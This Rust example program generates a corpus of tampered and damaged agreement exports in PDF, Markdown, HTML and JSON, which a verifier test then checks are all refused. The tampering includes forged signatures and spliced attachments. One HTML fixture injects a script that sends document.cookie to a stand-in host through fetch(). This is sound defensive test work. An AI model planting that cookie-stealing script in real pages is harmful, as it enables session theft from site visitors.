//! Writes the damaged and tampered agreement exports of the bad-input corpus
//! (`crates/cli/tests/bad-input/export-*`), each derived from the signed seminar agreement of
//! the export tests' fixture, so they can be made again when the layout changes:
//!
//! ```sh
//! cargo run -p accord-export --example bad_exports -- crates/cli/tests/bad-input
//! ```
//!
//! Every file written here must be refused by `accord verify`; the corpus test checks it.

#[path = "../tests/fixture/mod.rs"]
mod fixture;

use std::path::{Path, PathBuf};

use accord_core::agreement::Agreement;
use accord_export::{html, json, markdown, pdf};
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;

fn main() {
    let dir = PathBuf::from(
        std::env::args()
            .nth(1)
            .expect("usage: bad_exports FOLDER (crates/cli/tests/bad-input)"),
    );
    let agreement = fixture::signed(fixture::seminar());
    let write = |name: &str, bytes: &[u8]| {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        println!("{} ({} bytes)", path.display(), bytes.len());
    };

    // PDF.
    let pdf_bytes = pdf(&agreement).expect("the fixture renders");
    let (start, end) = attachment_span(&pdf_bytes);
    let stream = start + find(&pdf_bytes[start..end], b"stream\n").unwrap() + b"stream\n".len();
    let mut tampered = pdf_bytes.clone();
    tampered[stream + (end - stream) / 2] ^= 0x20;
    write("export-pdf-tampered-attachment.pdf", &tampered);

    let mut other = agreement.clone();
    other.review_on = "2027-09-30".into();
    let other = fixture::signed(Agreement {
        signatures: Vec::new(),
        ..other.with_hash()
    });
    let other_pdf = pdf(&other).unwrap();
    let (b_start, b_end) = attachment_span(&other_pdf);
    let mut spliced = pdf_bytes[..start].to_vec();
    spliced.extend_from_slice(&other_pdf[b_start..b_end]);
    spliced.extend_from_slice(&pdf_bytes[end..]);
    write("export-pdf-attachment-from-another-agreement.pdf", &spliced);

    write(
        "export-pdf-truncated.pdf",
        &pdf_bytes[..pdf_bytes.len() / 2],
    );

    let mut page = pdf_bytes.clone();
    let content = find(&page, b"19 0 obj").unwrap();
    let at = content + find(&page[content..], b"stream\n").unwrap() + 40;
    page[at] ^= 0x55;
    write("export-pdf-page-altered.pdf", &page);

    let mut appended = pdf_bytes.clone();
    appended.extend_from_slice(b"\n% an annotation added by another program\n%%EOF\n");
    write("export-pdf-saved-again.pdf", &appended);

    // Markdown.
    let md = markdown(&agreement);
    let value = &agreement.items[0].shown;
    assert!(md.contains(value.as_str()));
    write(
        "export-md-visible-value-altered.md",
        md.replacen(value.as_str(), "whatever suits us", 1)
            .as_bytes(),
    );
    let marker = md.rfind("<!-- accord-agreement").unwrap();
    write(
        "export-md-agreement-block-removed.md",
        &md.as_bytes()[..marker],
    );
    let body = md.find("layout=1\n").unwrap() + "layout=1\n".len();
    let mut broken = md.clone();
    broken.insert_str(body + 30, "*%$");
    write("export-md-broken-base64.md", broken.as_bytes());
    write(
        "export-md-other-layout.md",
        md.replacen("layout=1\n", "layout=99\n", 1).as_bytes(),
    );
    let mut edited = agreement.clone();
    edited.items[0].shown = "whatever suits us".into();
    write(
        "export-md-embedded-agreement-edited.md",
        with_embedded(&md, &json(&edited)).as_bytes(),
    );

    // HTML.
    let page = html(&agreement);
    let body = page.find("<body").unwrap();
    let mut injected = page.clone();
    injected.insert_str(
        body,
        "<script>fetch('https://example.invalid/?'+document.cookie)</script>\n",
    );
    write("export-html-script-injected.html", injected.as_bytes());
    write(
        "export-html-truncated.html",
        &page.as_bytes()[..page.len() / 3],
    );

    // JSON.
    let text = json(&agreement);
    write(
        "export-json-value-altered-hash-kept.json",
        json(&edited).as_bytes(),
    );
    let rehashed = Agreement {
        signatures: agreement.signatures.clone(),
        ..edited.clone().with_hash()
    };
    write(
        "export-json-rehashed-signatures-broken.json",
        json(&rehashed).as_bytes(),
    );
    let signature = &agreement.signatures[0].signature;
    let mut forged_sig = B64.decode(signature).unwrap();
    forged_sig[10] ^= 1;
    write(
        "export-json-forged-signature.json",
        text.replacen(signature.as_str(), &B64.encode(forged_sig), 1)
            .as_bytes(),
    );
    let mut relabelled = agreement.clone();
    relabelled.signatures[0].party = relabelled.signatures[1].party.clone();
    write(
        "export-json-partner-signs-twice.json",
        json(&relabelled).as_bytes(),
    );
    write_readme_hint(&dir);
}

/// The Markdown export `md` carrying `agreement_json` instead of its own agreement.
fn with_embedded(md: &str, agreement_json: &str) -> String {
    let open = md.rfind("layout=1\n").unwrap() + "layout=1\n".len();
    let close = md.rfind("-->").unwrap();
    let encoded = B64.encode(agreement_json.as_bytes());
    let mut lines = String::new();
    for chunk in encoded.as_bytes().chunks(76) {
        lines.push_str(std::str::from_utf8(chunk).unwrap());
        lines.push('\n');
    }
    format!("{}{}{}", &md[..open], lines, &md[close..])
}

/// The bytes of object 4 (the attachment), from its header to `endobj`.
fn attachment_span(bytes: &[u8]) -> (usize, usize) {
    let start = find(bytes, b"4 0 obj").unwrap();
    let end = start + find(&bytes[start..], b"endobj").unwrap() + b"endobj".len();
    (start, end)
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn write_readme_hint(dir: &Path) {
    println!(
        "done; list the new files in {}",
        dir.join("README.md").display()
    );
}
